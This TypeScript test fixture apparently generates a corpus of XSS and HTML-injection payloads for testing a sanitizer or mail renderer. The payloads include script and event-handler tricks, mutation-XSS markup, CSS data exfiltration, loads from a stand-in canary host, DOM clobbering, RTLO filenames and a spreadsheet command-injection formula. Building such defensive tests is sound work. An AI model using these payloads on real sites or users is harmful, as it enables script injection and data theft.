/** Nothing may ever ask this host for anything. */
export const canary = 'canary.example'

/** What a payload does when it runs: the test looks for it in every frame. */
const ran = 'top.__ran=1'
const there = `https://${canary}`
const letters = (text: string, write: (code: number) => string) => [...text].map(c => write(c.charCodeAt(0))).join('')

const tags = ['img src=x', 'svg', 'body', 'video src=x', 'details open', 'marquee', 'input autofocus', 'audio src=x']
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onpointerenter',
  'onanimationstart',
  'oncontentvisibilityautostatechange',
]

const schemes = [
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  ` javascript:${ran}`,
  `java\tscript:${ran}`,
  `java&#10;script:${ran}`,
  `\u0001javascript:${ran}`,
  `&#106;avascript:${ran}`,
  `&#x6A&#x61vascript&colon;${ran}`,
  `javascript://%0a${ran}`,
  `vbscript:${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${ran}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>`,
  `blob:${there}/1`,
  `feed:javascript:${ran}`,
]

/** Words that would run, load or lead away if anything took them for markup, by the way in which they try. */
export const families: Record<string, string[]> = {
  scripts: [
    `<script>${ran}</script>`,
    `<ScRiPt>${ran}</sCrIpT>`,
    `<script src=${there}/a.js></script>`,
    `<script/x>${ran}</script >`,
    `</script><script>${ran}</script>`,
    `<script type=module>${ran}</script>`,
    `<script>${ran}`,
    `<scr<script>ipt>${ran}</scr</script>ipt>`,
    `<svg><script>${ran}</script></svg>`,
    `<svg><script href="data:,${ran}"/></svg>`,
    `"><script>${ran}</script>`,
    `'-${ran}-'`,
    `";${ran};//`,
    `\u2028${ran}\u2029`,
  ],
  handlers: tags.flatMap(tag => events.map(event => `<${tag} ${event}=${ran}>`)).filter((_, at) => at % 2 === 0),
  'handlers written oddly': [
    `<svg/onload=${ran}>`,
    `<img/src=x/onerror=${ran}>`,
    `<img src=x onerror\n=\n"${ran}">`,
    `<img src=x" onerror=${ran}>`,
    `<img src='x'onerror='${ran}'>`,
    `<img src=\`x\`onerror=${ran}>`,
    `<IMG SRC=x ONERROR="${ran}">`,
    `<img src=x onerror="${letters(ran, code => `&#${code};`)}">`,
    `<img src=x onerror="${letters(ran, code => `&#x${code.toString(16)}`)}">`,
    `<img src=x onerror="\\u0074op.__ran=1">`,
    `<img src=x:x onerror\u000c=${ran}>`,
    `<x onclick=${ran} tabindex=1 autofocus onfocus=${ran}>x</x>`,
    `<<img src=x onerror=${ran}>`,
    `<img\u0000src=x onerror=${ran}>`,
    `<a onmouseover="${ran}" style="display:block;width:9999px;height:9999px">x</a>`,
    `" onmouseover="${ran}" x="`,
    `' autofocus onfocus='${ran}' x='`,
  ],
  addresses: [
    ...schemes.map(scheme => `<a href="${scheme}">press</a>`),
    ...schemes.slice(0, 8).map(scheme => `<iframe src="${scheme}"></iframe>`),
    ...schemes.slice(0, 4).map(scheme => `<form action="${scheme}"><button>go</button></form>`),
    `<svg><a xlink:href="javascript:${ran}"><text y=20>press</text></a></svg>`,
    `<math><maction actiontype=statusline xlink:href="javascript:${ran}">press</maction></math>`,
    `<area shape=default href="javascript:${ran}">`,
    `<button formaction="javascript:${ran}">press</button>`,
    `<input type=image src=x formaction="javascript:${ran}">`,
    `[press](javascript:${ran})`,
    `javascript:${ran}`,
  ],
  'markup that changes when it is read again': [
    `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ran}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ran}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${ran}>">`,
    `<svg><foreignobject><p><style><a title="</style><img src=x onerror=${ran}>">`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ran}></style></annotation-xml></math>`,
    `<table><td><math><mi><table><style><img title="</style><img src=x onerror=${ran}>">`,
    `<select><template><style><!--</style><a rel="--><img src=x onerror=${ran}>"></template></select>`,
    `<svg><desc><![CDATA[</desc><script>${ran}</script>]]></svg>`,
    `<listing>&lt;img src=x onerror=${ran}&gt;</listing>`,
    `<xmp><img src="</xmp><img src=x onerror=${ran}>"></xmp>`,
    `<noembed><img title="</noembed><img src=x onerror=${ran}>"></noembed>`,
    `<iframe><img title="</iframe><img src=x onerror=${ran}>"></iframe>`,
    `<textarea><img title="</textarea><img src=x onerror=${ran}>"></textarea>`,
    `<title><img title="</title><img src=x onerror=${ran}>"></title>`,
    `<a title="data-quiet-onerror=${ran}"><img src=x data-quiet-onerror=${ran}>x</a>`,
    `<img src=x ondata-quiet-error=${ran} data-quiet-data-quiet-onerror=${ran}>`,
    `<b><p><b><p><img src=x onerror=${ran}></b></p>`,
  ],
  templates: [
    `{{constructor.constructor('${ran}')()}}`,
    `\${${ran}}`,
    `<%= ${ran} %>`,
    `#{${ran}}`,
    `{{7*7}}[[${ran}]]`,
    `<template><script>${ran}</script></template>`,
    `<template shadowrootmode=open><img src=x onerror=${ran}></template>`,
    `<div><template shadowrootmode="open"><script>${ran}</script></template></div>`,
    `__proto__`,
    `%3Cscript%3E${ran}%3C/script%3E`,
    `&lt;script&gt;${ran}&lt;/script&gt;`,
    `+ADw-script+AD4-${ran}+ADw-/script+AD4-`,
    `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
    `\uFF1Cscript\uFF1E${ran}\uFF1C/script\uFF1E`,
  ],
  styles: [
    `<style>@import '${there}/a.css';</style>`,
    `<style>*{background:url(${there}/a.png)}</style>`,
    `<style>@font-face{font-family:a;src:url(${there}/a.woff)}*{font-family:a}</style>`,
    `<style>p{list-style:url("${there}/a")}p{cursor:url(${there}/b),auto}p::before{content:url(${there}/c)}</style><p>x</p>`,
    `<style>@media all{p{background-image:image-set("${there}/d" 1x)}}</style><p>x</p>`,
    `<style>p{& b{background:url(${there}/n)}}</style><p><b>x</b></p>`,
    `<style>@supports (display:block){p{background:url(${there}/s)}}</style><p>x</p>`,
    `<p style="background:url(${there}/e)">x</p>`,
    `<p style="background:\\75rl(${there}/f)">x</p>`,
    `<p style="--a:url(${there}/g);background:var(--a)">x</p>`,
    `<p style="width:expression(${ran})">x</p>`,
    `<p style="-moz-binding:url(${there}/x.xml#a);behavior:url(${there}/x.htc)">x</p>`,
    `<p style="border-image:url(${there}/h) 1;mask:url(${there}/i);filter:url(${there}/j#a)">x</p>`,
    `<div style="position:fixed;inset:0;z-index:99999;background:red"><a href="${there}">x</a></div>`,
    `<link rel=stylesheet href=${there}/a.css>`,
    `<style>input[value^=a]{background:url(${there}/k)}</style>`,
    `<svg><style>*{fill:url(${there}/l)}</style><rect width=9 height=9 /></svg>`,
    `<style></style><style onload=${ran}>x{}</style>`,
    `<style><!-- */*{}</style><img src=x onerror=${ran}>-->`,
  ],
  'leading away': [
    `<meta http-equiv=refresh content="0;url=${there}/m">`,
    `<meta http-equiv="refresh" content="0; url=javascript:${ran}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<meta http-equiv="Set-Cookie" content="a=b">`,
    `<base href="${there}/">`,
    `<base target="_top">`,
    `<form action=${there}/f id=f><input name=a><button>go</button></form><button form=f autofocus>go</button>`,
    `<form method=dialog><button>x</button></form>`,
    `<a href="${there}/p" ping="${there}/ping">x</a>`,
    `<a href="${there}/d" download>x</a>`,
    `<isindex action=${there} prompt=x>`,
    `<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>`,
    `<portal src=${there}></portal><fencedframe></fencedframe>`,
    `<keygen autofocus onfocus=${ran}>`,
  ],
  'frames and plugins': [
    `<iframe srcdoc="<script>${ran}</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${ran}&lt;/script&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
    `<iframe src=${there}/f></iframe>`,
    `<iframe name=top></iframe>`,
    `<frameset onload=${ran}><frame src=${there}/g></frameset>`,
    `<object data=${there}/o></object>`,
    `<object data="data:text/html,<script>${ran}</script>"></object>`,
    `<embed src=${there}/e>`,
    `<embed src="javascript:${ran}">`,
    `<applet code=x archive=${there}/a.jar></applet>`,
    `<object type="text/x-scriptlet" data=${there}/s></object>`,
    `<object classid=clsid:0 codebase=${there}></object>`,
  ],
  'loading by themselves': [
    `<img src=${there}/i>`,
    `<img srcset="${there}/i 1x, ${there}/j 2x">`,
    `<img src="//${canary}/k">`,
    `<img src=x lowsrc=${there}/l dynsrc=${there}/m longdesc=${there}/n>`,
    `<picture><source srcset=${there}/p><img src=x></picture>`,
    `<video poster=${there}/v autoplay><source src=${there}/w onerror=${ran}></video>`,
    `<audio src=${there}/a autoplay></audio>`,
    `<table background=${there}/b><td background=${there}/c>x</table>`,
    `<body background=${there}/d>`,
    `<input type=image src=${there}/e>`,
    `<track src=${there}/t default>`,
    `<link rel=prefetch href=${there}/f><link rel=dns-prefetch href=${there}><link rel=preload as=image href=${there}/g>`,
    `<link rel=icon href=${there}/h>`,
    `<svg><image href=${there}/q /><use href=${there}/r#a /></svg>`,
    `<svg><feImage xlink:href=${there}/s /></svg>`,
    `<img src="cid:../../v1/customers">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>">`,
    `<img src="/v1/customers"><img src="/favicon.svg">`,
  ],
  'names that stand for others': [
    `<a id=__ran></a><a id=__ran name=x>x</a>`,
    `<form id=document><input name=cookie></form>`,
    `<form id=x><input name=attributes><input name=nodeName><input name=parentNode><input name=getAttribute></form>`,
    `<img name=getElementById><img name=body><img id=head>`,
    `<form name=location action=${there}><output name=href>javascript:${ran}</output></form>`,
    `<a id=trustedTypes></a><a id=DOMPurify></a><a id=config href=${there}>x</a>`,
    `<iframe name=defaultView></iframe>`,
    `<input name=childNodes><input name=firstChild>`,
  ],
  comments: [
    `<!--><img src=x onerror=${ran}>-->`,
    `<!---><img src=x onerror=${ran}>-->`,
    `<!-- --!><img src=x onerror=${ran}>-->`,
    `<!--[if gte IE 4]><script>${ran}</script><![endif]-->`,
    `<![if IE]><img src=x onerror=${ran}><![endif]>`,
    `<?xml version="1.0"?><?x onload=${ran}?><img src=x onerror=${ran}>`,
    `<!doctype html><html onclick=${ran}><body onload=${ran}>`,
    `<!ENTITY x SYSTEM "${there}/x">`,
    `</ onerror=${ran}><img src=x onerror=${ran}>`,
    `<!-`,
  ],
  'turned and unseen names': [
    `\u202Egpj.exe`,
    `invoice\u202Efdp.js`,
    `\u2066\u2067admin\u2069`,
    `a\u0000b<img src=x onerror=${ran}>`,
    `A\u0301${'\u0300'.repeat(60)}<script>${ran}</script>`,
    `\uFEFF<script>${ran}</script>`,
    `\u200B\u200D<svg/onload=${ran}>`,
    `../../etc/<script>${ran}</script>`,
    `"; filename="x.html"<script>${ran}</script>`,
    `=cmd|' /C calc'!A0`,
    `\uD83D\uDE00<img src=x onerror=${ran}>\u{1F469}\u200D\u{1F469}`,
    `<ſcript>${ran}</ſcript>`,
    `<K onclick=${ran}>kelvin</K>`,
  ],
}

export const payloads: string[] = [...new Set(Object.values(families).flat())]

/** All payloads in as few texts of at most so many characters as they fit in; one that is longer is cut. */
export function packed(limit: number): string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= limit) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload.slice(0, limit))
  }
  return texts
}

/** Those that may swallow what comes behind them, so that each ends a mail. */
const swallowing = new Set([
  ...(families['markup that changes when it is read again'] ?? []),
  ...(families.comments ?? []),
  ...payloads.filter(payload => /<(?:frameset|noscript|plaintext|isindex|template)/i.test(payload)),
  ...payloads.filter(payload =>
    /<script[^>]*>(?!.*<\/script)|<(?:math|svg|select|object|iframe)\b(?!.*<\/)/is.test(payload),
  ),
])

/** The payloads in few mails: each has some that leave what follows alone, and at its end one that may not. */
export function inMails(): { tame: string[]; last: string }[] {
  const tame = payloads.filter(payload => !swallowing.has(payload))
  const each = Math.ceil(tame.length / swallowing.size)
  return [...swallowing].map((last, at) => ({ tame: tame.slice(at * each, (at + 1) * each), last }))
}
